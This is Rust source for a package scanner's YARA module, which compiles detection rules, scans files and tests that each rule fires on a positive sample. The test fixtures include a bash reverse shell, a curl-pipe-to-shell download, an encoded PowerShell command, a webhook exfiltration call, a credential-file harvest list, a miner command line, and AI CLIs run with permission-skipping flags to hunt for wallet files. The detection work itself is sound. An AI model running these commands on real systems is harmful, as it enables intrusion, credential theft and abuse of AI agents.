//! YARA rules over a package's files: the built-in set (`rules/*.yar`, compiled into the
//! binary) and rule files a user names. A matching rule is a `yara-match` hit like any other
//! finding; its meta `severity` weighs it and `verdict = "malicious"` decides the verdict.
//!
//! Rules see two external variables besides the file's bytes: `file_path`, the path inside
//! the package (`lib/index.js`), and `file_name`, its last component (`index.js`).
//!
//! Without the `yara` cargo feature the types stay, so callers need no `cfg`, but no rule is
//! compiled or run and [`RuleSet::compile`] answers [`Unsupported`].

use std::fmt;

#[cfg(feature = "yara")]
pub use enabled::RuleSet;

/// The namespace of the built-in rules; a user file's rules live in a namespace named after
/// the file.
pub const BUILTIN_NAMESPACE: &str = "builtin";

/// Files larger than this are not scanned (and a note says so): the archive reader already
/// bounds files, this bounds the time one file can take on top of the per-scan timeout.
pub const MAX_SCANNED_FILE: usize = 16 * 1024 * 1024;

/// How long one file's scan may run before it is abandoned (and a note says so).
pub const SCAN_TIMEOUT_SECONDS: u64 = 5;

/// A user rule file, read by the caller.
#[derive(Debug, Clone)]
pub struct RuleSource {
    /// How the file is named in errors and in the namespace of its rules.
    pub origin: String,
    /// Its contents.
    pub text: Vec<u8>,
}

/// A rule file that did not compile: it adds no rule, the other files are still used.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleError {
    /// The file, as given in [`RuleSource::origin`].
    pub origin: String,
    /// 1-based line of the error (0 when the compiler gave no place).
    pub line: usize,
    /// 1-based column.
    pub column: usize,
    /// The compiler's message.
    pub message: String,
}

impl fmt::Display for RuleError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.line > 0 {
            write!(
                f,
                "cannot compile YARA rules `{}` at {}:{}: {}",
                self.origin, self.line, self.column, self.message
            )
        } else {
            write!(f, "cannot compile YARA rules `{}`: {}", self.origin, self.message)
        }
    }
}

/// This build has no YARA support.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Unsupported;

impl fmt::Display for Unsupported {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("this build of firebreak has no YARA support: it was built without the `yara` feature")
    }
}

impl std::error::Error for Unsupported {}

/// Whether this build runs YARA rules.
pub const fn available() -> bool {
    cfg!(feature = "yara")
}

/// Compiled rules: the built-in set plus the user files that compiled. Without the `yara`
/// feature no value of it exists.
#[cfg(not(feature = "yara"))]
#[derive(Debug)]
pub struct RuleSet {
    never: std::convert::Infallible,
}

#[cfg(not(feature = "yara"))]
impl RuleSet {
    /// Always [`Unsupported`] in this build.
    pub fn compile(_sources: &[RuleSource]) -> Result<(RuleSet, Vec<RuleError>), Unsupported> {
        Err(Unsupported)
    }

    /// Always [`Unsupported`] in this build.
    pub fn builtin() -> Result<&'static RuleSet, String> {
        Err(Unsupported.to_string())
    }

    /// Never called: no value exists.
    pub fn user_files(&self) -> usize {
        match self.never {}
    }
}

#[cfg(not(feature = "yara"))]
pub(crate) fn scan(
    _rules: Option<&RuleSet>,
    _files: &[crate::PackageFile<'_>],
) -> (Vec<crate::Hit>, Vec<String>) {
    (Vec::new(), Vec::new())
}

#[cfg(feature = "yara")]
pub(crate) use enabled::scan;

/// The built-in rule files, in compilation order.
pub const BUILTIN_RULES: &[(&str, &str)] = &[
    ("worm.yar", include_str!("../rules/worm.yar")),
    ("wallet.yar", include_str!("../rules/wallet.yar")),
    ("obfuscation.yar", include_str!("../rules/obfuscation.yar")),
    ("powershell.yar", include_str!("../rules/powershell.yar")),
    ("reverse_shell.yar", include_str!("../rules/reverse_shell.yar")),
    ("exfiltration.yar", include_str!("../rules/exfiltration.yar")),
    ("credentials.yar", include_str!("../rules/credentials.yar")),
    ("miner.yar", include_str!("../rules/miner.yar")),
    ("dropper.yar", include_str!("../rules/dropper.yar")),
    ("python.yar", include_str!("../rules/python.yar")),
    ("ai_cli.yar", include_str!("../rules/ai_cli.yar")),
];

#[cfg(feature = "yara")]
/// 1-based line and column of byte `offset` in `text`.
fn line_column(text: &[u8], offset: usize) -> (usize, usize) {
    let before = text.get(..offset).unwrap_or(text);
    let line = memchr::memchr_iter(b'\n', before).count() + 1;
    let start = memchr::memrchr(b'\n', before).map_or(0, |i| i + 1);
    (line, offset.saturating_sub(start) + 1)
}

#[cfg(feature = "yara")]
/// Longest snippet kept, in bytes of the source (before UTF-8 repair).
const SNIPPET_BEFORE: usize = 60;
#[cfg(feature = "yara")]
const SNIPPET_AFTER: usize = 100;

#[cfg(feature = "yara")]
/// The line around `offset`, cut to a bounded window and made valid UTF-8 (a cut through a
/// multi-byte character becomes U+FFFD).
fn snippet(text: &[u8], offset: usize) -> String {
    let offset = offset.min(text.len());
    let line_start = memchr::memrchr(b'\n', &text[..offset]).map_or(0, |i| i + 1);
    let line_end = memchr::memchr(b'\n', &text[offset..]).map_or(text.len(), |i| offset + i);
    let from = line_start.max(offset.saturating_sub(SNIPPET_BEFORE));
    let to = line_end.min(offset.saturating_add(SNIPPET_AFTER));
    let mut out = String::new();
    if from > line_start {
        out.push('…');
    }
    let body = String::from_utf8_lossy(&text[from..to]);
    out.push_str(body.trim_end_matches('\r').trim());
    if to < line_end {
        out.push('…');
    }
    out.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
}

#[cfg(feature = "yara")]
/// Documentation files describe attacks as often as they carry them: the built-in rules are
/// not applied to them (user rules are).
fn is_documentation(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    [".md", ".markdown", ".rst", ".txt", ".html", ".adoc"].iter().any(|ext| lower.ends_with(ext))
}

#[cfg(feature = "yara")]
mod enabled {
    use std::sync::OnceLock;
    use std::time::Duration;

    use firebreak_core::Severity;
    use yara_x::{Compiler, MetaValue, ScanError, Scanner, SourceCode};

    use super::{
        BUILTIN_NAMESPACE, BUILTIN_RULES, MAX_SCANNED_FILE, RuleError, RuleSource, SCAN_TIMEOUT_SECONDS,
        Unsupported, is_documentation, line_column, snippet,
    };
    use crate::{Hit, PackageFile, Phase, RuleMatch, signals};

    /// Compiled rules: the built-in set plus the user files that compiled.
    pub struct RuleSet {
        rules: yara_x::Rules,
        user_files: usize,
    }

    impl std::fmt::Debug for RuleSet {
        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            f.debug_struct("RuleSet")
                .field("rules", &self.rules.iter().len())
                .field("user_files", &self.user_files)
                .finish()
        }
    }

    fn new_compiler<'a>() -> Result<Compiler<'a>, String> {
        let mut compiler = Compiler::new();
        for name in ["file_path", "file_name"] {
            compiler.define_global(name, "").map_err(|e| format!("cannot define `{name}`: {e}"))?;
        }
        compiler.new_namespace(BUILTIN_NAMESPACE);
        for (name, text) in BUILTIN_RULES {
            compiler
                .add_source(SourceCode::from(*text).with_origin(format!("builtin/{name}")))
                .map_err(|e| format!("built-in rules `{name}`: {e}"))?;
        }
        Ok(compiler)
    }

    static BUILTIN: OnceLock<Result<RuleSet, String>> = OnceLock::new();

    impl RuleSet {
        /// The built-in rules, compiled on first use.
        pub fn builtin() -> Result<&'static RuleSet, String> {
            BUILTIN
                .get_or_init(|| new_compiler().map(|c| RuleSet { rules: c.build(), user_files: 0 }))
                .as_ref()
                .map_err(Clone::clone)
        }

        /// The built-in rules and every user file that compiles, each file in a namespace of
        /// its own; one error for each file that does not.
        pub fn compile(sources: &[RuleSource]) -> Result<(RuleSet, Vec<RuleError>), Unsupported> {
            let mut errors = Vec::new();
            let mut compiler = match new_compiler() {
                Ok(c) => c,
                Err(message) => {
                    errors.push(RuleError { origin: "builtin".into(), line: 0, column: 0, message });
                    Compiler::new()
                }
            };
            let mut user_files = 0;
            for source in sources {
                // Checked alone first: the compiler keeps the rules of a file that compiled
                // in part, and a broken file should add none.
                let code = || SourceCode::from(source.text.as_slice()).with_origin(source.origin.clone());
                let mut alone = Compiler::new();
                for name in ["file_path", "file_name"] {
                    let _ = alone.define_global(name, "");
                }
                match alone.add_source(code()).map(|_| ()) {
                    Ok(()) => {
                        compiler.new_namespace(&source.origin);
                        match compiler.add_source(code()) {
                            Ok(_) => user_files += 1,
                            Err(e) => errors.push(RuleError {
                                origin: source.origin.clone(),
                                line: 0,
                                column: 0,
                                message: e.title().to_owned(),
                            }),
                        }
                    }
                    Err(e) => {
                        let label = e.labels().next();
                        let (line, column) = label
                            .as_ref()
                            .map_or((0, 0), |l| line_column(&source.text, l.span().range().start));
                        let mut message = e.title().to_owned();
                        if let Some(text) = label.as_ref().map(|l| l.text()).filter(|t| !t.is_empty()) {
                            message = format!("{message}: {text}");
                        }
                        errors.push(RuleError { origin: source.origin.clone(), line, column, message });
                    }
                }
            }
            Ok((RuleSet { rules: compiler.build(), user_files }, errors))
        }

        /// How many user files compiled into this set.
        pub fn user_files(&self) -> usize {
            self.user_files
        }
    }

    fn severity(value: &str) -> Option<Severity> {
        Some(match value.to_ascii_lowercase().as_str() {
            "info" => Severity::Info,
            "low" => Severity::Low,
            "medium" => Severity::Medium,
            "high" => Severity::High,
            "critical" => Severity::Critical,
            _ => return None,
        })
    }

    /// Most matches kept per pattern: only the first is reported, counts in conditions
    /// (`#a >= 10`) need a few more.
    const MAX_MATCHES: usize = 1_000;

    /// Runs `rules` (the built-in set when `None`) over every file: one `yara-match` hit
    /// per matching rule and file, and a note per file not scanned.
    pub(crate) fn scan(rules: Option<&RuleSet>, files: &[PackageFile<'_>]) -> (Vec<Hit>, Vec<String>) {
        let mut hits = Vec::new();
        let mut notes = Vec::new();
        let rules = match rules {
            Some(r) => r,
            None => match RuleSet::builtin() {
                Ok(r) => r,
                Err(e) => {
                    notes.push(format!("YARA rules not run: {e}"));
                    return (hits, notes);
                }
            },
        };
        let mut scanner = Scanner::new(&rules.rules);
        scanner.set_timeout(Duration::from_secs(SCAN_TIMEOUT_SECONDS));
        scanner.max_matches_per_pattern(MAX_MATCHES);
        for file in files {
            if file.data.len() > MAX_SCANNED_FILE {
                notes.push(format!(
                    "YARA: `{}` not scanned: {} bytes, over the {MAX_SCANNED_FILE}-byte limit",
                    file.path,
                    file.data.len()
                ));
                continue;
            }
            let name = file.path.rsplit('/').next().unwrap_or(file.path);
            if let Err(e) =
                scanner.set_global("file_path", file.path).and_then(|s| s.set_global("file_name", name))
            {
                notes.push(format!("YARA: `{}` not scanned: {e}", file.path));
                continue;
            }
            let results = match scanner.scan(file.data) {
                Ok(results) => results,
                Err(ScanError::Timeout) => {
                    notes.push(format!(
                        "YARA: scanning `{}` took longer than {SCAN_TIMEOUT_SECONDS} s and was stopped",
                        file.path
                    ));
                    continue;
                }
                Err(e) => {
                    notes.push(format!("YARA: `{}` not scanned: {e}", file.path));
                    continue;
                }
            };
            for rule in results.matching_rules() {
                let namespace = rule.namespace();
                if namespace == BUILTIN_NAMESPACE && is_documentation(file.path) {
                    continue;
                }
                let (mut level, mut description, mut malicious) = (None, None, false);
                for (key, value) in rule.metadata() {
                    let MetaValue::String(value) = value else { continue };
                    match key {
                        "severity" => level = severity(value),
                        "description" => description = Some(value.chars().take(300).collect::<String>()),
                        "verdict" => malicious = value.eq_ignore_ascii_case("malicious"),
                        _ => {}
                    }
                }
                let first = rule.patterns().find_map(|p| {
                    let m = p.matches().next()?;
                    Some((p.identifier().to_owned(), m.range().start))
                });
                let (line, column, snippet, pattern) = match first {
                    Some((pattern, offset)) => {
                        let (line, column) = line_column(file.data, offset);
                        (line, column, snippet(file.data, offset), Some(pattern))
                    }
                    None => (0, 0, String::new(), None),
                };
                let name = rule.identifier();
                let message = match &description {
                    Some(d) => format!("YARA rule `{name}` ({namespace}): {d}"),
                    None => format!("YARA rule `{name}` ({namespace}) matched"),
                };
                hits.push(Hit {
                    signal: &signals::YARA_MATCH,
                    severity: level.unwrap_or(signals::YARA_MATCH.severity),
                    capability: None,
                    message,
                    path: file.path.to_owned(),
                    line: u32::try_from(line).unwrap_or(u32::MAX),
                    column: u32::try_from(column).unwrap_or(u32::MAX),
                    snippet,
                    phase: Phase::Runtime,
                    rule: Some(Box::new(RuleMatch {
                        rule: name.to_owned(),
                        namespace: namespace.to_owned(),
                        pattern,
                        malicious,
                    })),
                });
            }
        }
        (hits, notes)
    }
}

#[cfg(all(test, feature = "yara"))]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;
    use crate::PackageFile;

    fn matches(path: &str, text: &str) -> Vec<String> {
        let file = PackageFile { path, data: text.as_bytes(), executable: false };
        let (hits, notes) = scan(None, &[file]);
        assert!(notes.is_empty(), "{notes:?}");
        hits.iter().map(|h| h.rule.as_ref().unwrap().rule.clone()).collect()
    }

    fn check(rule: &str, path: &str, positive: &str, negative: &str) {
        assert!(matches(path, positive).contains(&rule.to_owned()), "{rule} misses its positive sample");
        assert!(matches(path, negative).is_empty(), "{rule} fires on its negative sample");
    }

    #[test]
    fn the_builtin_rules_compile() {
        let rules = RuleSet::builtin().unwrap();
        assert_eq!(rules.user_files(), 0);
    }

    #[test]
    fn shai_hulud_worm() {
        check(
            "shai_hulud_worm",
            "bundle.js",
            "const s = execSync('trufflehog filesystem / --json');\n\
             await gh('PUT', '/repos/o/r/contents/.github/workflows/x.yml', token);",
            // A CI helper that documents its own workflow and mentions no secret scanner.
            "await gh('PUT', '/repos/o/r/contents/.github/workflows/ci.yml', token); // api.github.com",
        );
    }

    #[test]
    fn browser_wallet_address_swap() {
        let addresses: String = (0..12).map(|i| format!("'0x{:040x}',", i + 1)).collect();
        let ids: String = (0..25).map(|i| format!("var _0x{:04x}=1;", 0xa000 + i)).collect();
        check(
            "browser_wallet_address_swap",
            "index.js",
            &format!(
                "{ids}var l=[{addresses}];window.fetch=f;ethereum.request({{method:'eth_sendTransaction'}})"
            ),
            // A wallet library: a transaction call and a few addresses, no obfuscation.
            &format!("var l=[{addresses}];window.fetch=f;ethereum.request({{method:'eth_sendTransaction'}})"),
        );
    }

    #[test]
    fn obfuscator_io_string_array() {
        let ids: String = (0..25).map(|i| format!("var _0x{:04x}=_0x1234[{i}];", 0xb000 + i)).collect();
        check(
            "obfuscator_io_string_array",
            "index.js",
            &format!(
                "(function(_0x1a2b3c,_0x4d5e6f){{while(--_0x4d5e6f){{_0x1a2b3c['push'](_0x1a2b3c['shift']());}}}}(_0x1234,0x1b3));{ids}"
            ),
            // A queue in readable code.
            "while (queue.length) { queue.push(queue.shift()); }",
        );
    }

    #[test]
    fn powershell_encoded_command() {
        check(
            "powershell_encoded_command",
            "install.js",
            "exec('powershell.exe -NoP -W Hidden -EncodedCommand JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==')",
            "exec('powershell.exe -NoProfile -File scripts/build.ps1 -Configuration Release')",
        );
    }

    #[test]
    fn reverse_shell() {
        check(
            "reverse_shell",
            "setup.sh",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "exec 3<>/dev/null; echo connecting to port 4444",
        );
    }

    #[test]
    fn chat_webhook_exfiltration() {
        let token = "a".repeat(68);
        check(
            "chat_webhook_exfiltration",
            "index.js",
            &format!(
                "fetch('https://discord.com/api/webhooks/123456789012345678/{token}', {{method:'POST'}})"
            ),
            // A Discord client library builds webhook routes from arguments.
            "const route = `https://discord.com/api/webhooks/${id}/${token}`;",
        );
    }

    #[test]
    fn credential_file_harvest() {
        check(
            "credential_file_harvest",
            "collect.js",
            "['.npmrc', '.ssh/id_rsa', '.aws/credentials', '.docker/config.json'].map(read)",
            // A registry client reads its own two files.
            "const files = ['.npmrc', '.yarnrc'];",
        );
    }

    #[test]
    fn crypto_miner() {
        check(
            "crypto_miner",
            "preinstall.sh",
            "./jsextension -o pool.example.invalid:443 -u W --cpu-max-threads-hint=50 --donate-level=1 &",
            "./server --max-threads=4 --port 3000 &",
        );
    }

    #[test]
    fn remote_script_piped_to_shell() {
        check(
            "remote_script_piped_to_shell",
            "install.sh",
            "curl -fsSL http://203.0.113.9/x.sh | sh",
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        );
    }

    #[test]
    fn pth_executes_code() {
        let payload = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n";
        check("pth_executes_code", "evil_init.pth", payload, "import _virtualenv\n");
        // The same line in a module is another rule's business, not a start-up hook.
        assert!(!matches("evil/__init__.py", payload).contains(&"pth_executes_code".to_owned()));
    }

    #[test]
    fn python_exec_encoded() {
        check(
            "python_exec_encoded",
            "setup.py",
            "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
            "data = base64.b64decode(blob)\nexec(compile(source, path, 'exec'))",
        );
    }

    #[test]
    fn ai_cli_secret_hunt() {
        check(
            "ai_cli_secret_hunt",
            "telemetry.js",
            "spawn('claude', ['--dangerously-skip-permissions', '-p', 'find wallet, keystore and mnemonic files']);\
             spawn('gemini', ['--yolo', '-p', P]);",
            // An assistant wrapper that passes the flags for the user's own project.
            "spawn('claude', ['--dangerously-skip-permissions', '-p', prompt]); spawn('gemini', ['--yolo']);",
        );
    }

    #[test]
    fn evidence_has_line_snippet_and_pattern() {
        let text = "line one\nline two\n  bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";
        let file = PackageFile { path: "x.sh", data: text.as_bytes(), executable: false };
        let (hits, _) = scan(None, &[file]);
        let hit = &hits[0];
        assert_eq!((hit.line, hit.column), (3, 5));
        assert_eq!(hit.snippet, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        let rule = hit.rule.as_ref().unwrap();
        assert_eq!(
            (rule.namespace.as_str(), rule.pattern.as_deref(), rule.malicious),
            ("builtin", Some("$bash_tcp"), true)
        );
        assert_eq!(hit.severity, firebreak_core::Severity::Critical);
    }

    #[test]
    fn snippets_are_bounded_and_valid_utf8() {
        let mut text = "é".repeat(500).into_bytes();
        text.extend_from_slice(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        text.extend("ü".repeat(500).into_bytes());
        let file = PackageFile { path: "x.sh", data: &text, executable: false };
        let (hits, _) = scan(None, &[file]);
        let s = &hits[0].snippet;
        assert!(s.len() <= 2 + SNIPPET_BEFORE + SNIPPET_AFTER + 12, "{} bytes", s.len());
        assert!(s.starts_with('…') && s.ends_with('…') && s.contains("/dev/tcp/"), "{s}");
    }

    #[test]
    fn documentation_is_not_scanned_by_the_builtin_rules() {
        assert!(matches("README.md", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").is_empty());
    }

    #[test]
    fn oversize_files_are_skipped_with_a_note() {
        let big = vec![b'a'; MAX_SCANNED_FILE + 1];
        let (hits, notes) = scan(None, &[PackageFile { path: "big.bin", data: &big, executable: false }]);
        assert!(hits.is_empty());
        assert!(notes[0].contains("big.bin") && notes[0].contains("not scanned"), "{notes:?}");
    }

    #[test]
    fn user_rules_compile_per_file_and_errors_name_the_line() {
        let good = RuleSource {
            origin: "rules/good.yar".into(),
            text: b"rule marker { meta: severity = \"low\" strings: $a = \"MARKER-42\" condition: $a and file_name == \"a.js\" }".to_vec(),
        };
        let broken = RuleSource {
            origin: "rules/broken.yar".into(),
            text: b"rule ok { condition: true }\n\nrule broken {\n  condition: $missing\n}\n".to_vec(),
        };
        let (rules, errors) = RuleSet::compile(&[broken, good]).unwrap();
        assert_eq!(rules.user_files(), 1);
        assert_eq!(errors.len(), 1, "{errors:?}");
        assert_eq!((errors[0].origin.as_str(), errors[0].line), ("rules/broken.yar", 4));
        assert!(errors[0].to_string().contains("rules/broken.yar` at 4:"), "{}", errors[0]);
        let file = PackageFile { path: "lib/a.js", data: b"x = 'MARKER-42'", executable: false };
        let (hits, _) = scan(Some(&rules), &[file]);
        let rule = hits[0].rule.as_ref().unwrap();
        assert_eq!((rule.rule.as_str(), rule.namespace.as_str()), ("marker", "rules/good.yar"));
        assert_eq!(hits[0].severity, firebreak_core::Severity::Low);
    }
}
